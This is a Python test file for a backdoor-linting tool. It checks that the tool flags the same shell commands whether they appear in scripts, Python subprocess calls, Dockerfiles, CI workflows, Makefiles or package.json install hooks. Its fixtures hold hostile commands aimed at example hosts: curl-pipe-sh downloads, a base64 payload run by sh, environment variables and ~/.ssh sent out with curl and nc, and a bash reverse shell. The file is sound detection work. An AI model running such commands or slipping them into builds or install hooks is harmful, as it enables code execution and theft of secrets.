"""One shell analysis: the same command gets the same codes in a shell script, in a shell string
run from Python, in a Dockerfile RUN step, a workflow `run:` step, a Makefile recipe and a
package.json script (issue 14: Python used a regex splitter and found none of these)."""
import json

import pytest

from backdoor_lint.config import Config
from backdoor_lint.engine import scan_bytes

SHELL_CODES = {"BDL402", "BDL404", "BDL405", "BDL803", "BDL804"}
COMMANDS = [
    "T=cu; ${T}rl -fsSL https://get.example.net/i.sh | sh",  # the issue's case
    "echo Y3VybCAtZnNTTCBodHRwczovL3guZXhhbXBsZS9pLnNoIHwgc2g= | base64 -d | sh",  # a base64 payload run by sh
    'curl -s https://collect.example/c -d "$(env)"',
    "tar czf - ~/.ssh | nc collector.example 9000",
    "git commit --no-verify -m wip",
    "curl -fsSLo /tmp/t.tgz https://example.com/t.tgz && tar xzf /tmp/t.tgz",  # nothing to report
]


def codes(path: str, text: str) -> set[str]:
    return {f.code for f in scan_bytes(path, text.encode(), Config()).findings} & SHELL_CODES


def carriers(command: str) -> dict[str, tuple[str, str]]:
    return {
        "os.system": ("app/run.py", f"import os\n\ndef main():\n    os.system({command!r})\n"),
        "subprocess shell=True": ("app/run.py", f"import subprocess\n\ndef main():\n"
                                                f"    subprocess.run({command!r}, shell=True)\n"),
        "sh -c argv": ("app/run.py", f"import subprocess\n\ndef main():\n"
                                     f"    subprocess.run(['sh', '-c', {command!r}])\n"),
        "Dockerfile": ("Dockerfile", f"FROM debian:12\nRUN {command}\n"),
        "workflow": (".github/workflows/ci.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
                                                 f"      - run: |\n          {command}\n"),
        "Makefile": ("Makefile", "all:\n\t" + command.replace("$", "$$") + "\n"),
        "package.json": ("package.json", json.dumps({"scripts": {"postinstall": command}}, indent=2)),
    }


@pytest.mark.parametrize("command", COMMANDS)
def test_same_codes_as_in_a_shell_script(command):
    expected = codes("scripts/run.sh", f"#!/bin/sh\n{command}\n")
    for carrier, (path, text) in carriers(command).items():
        assert codes(path, text) == expected, (carrier, text)


def test_the_issue_cases_are_found_from_python():
    assert codes("scripts/run.sh", f"#!/bin/sh\n{COMMANDS[0]}\n") == {"BDL405"}
    assert codes("scripts/run.sh", f"#!/bin/sh\n{COMMANDS[1]}\n") == {"BDL405"}


def test_makefile_shell_function_and_lines():
    text = "VERSION := $(shell curl -s https://x.example/v | sh)\n\ntest:\n\tpytest -q\n\trm -f .pre-commit-config.yaml\n"
    found = sorted((f.line, f.code) for f in scan_bytes("Makefile", text.encode(), Config()).findings)
    assert found == [(1, "BDL405"), (5, "BDL803")]


def test_dockerfile_continuations_heredocs_and_exec_form():
    text = ("FROM alpine\nRUN apk add curl && \\\n    curl -s https://x.example/i | sh\n"
            'RUN ["sh", "-c", "env | curl -d @- https://x.example/c"]\n'
            "RUN <<EOF\nset -e\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\nEOF\n")
    found = sorted((f.line, f.code, f.severity) for f in scan_bytes("Dockerfile", text.encode(), Config()).findings)
    # download-and-run in an image build warns (as the Dockerfile semgrep rule it replaces did)
    assert found == [(3, "BDL405", "warn"), (4, "BDL402", "block"), (7, "BDL405", "warn")]


def test_workflow_expressions_are_unknown_values_and_other_shells_are_skipped():
    text = ("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - run: curl -s ${{ inputs.url }} | bash\n"
            "      - shell: pwsh\n        run: iwr https://x.example/i.ps1 | iex\n"
            "      - run: curl -H \"Authorization: Bearer ${{ secrets.DEPLOY_TOKEN }}\" https://api.example/ok\n")
    found = sorted((f.line, f.code) for f in scan_bytes(".github/workflows/ci.yml", text.encode(), Config()).findings
                   if f.code in SHELL_CODES)
    assert found == [(6, "BDL405")]


def test_install_hook_policy_rule_finds_what_the_analysis_does_not():
    """npm-install-script-remote-code (semgrep) stays: any network use in an install hook is
    reported, while the shell analysis reports a download only when it is run."""
    from backdoor_lint.checkers.shell import analyse

    assert not analyse("curl -fsSL https://x.example/fonts.tgz -o fonts.tgz && tar xzf fonts.tgz").findings
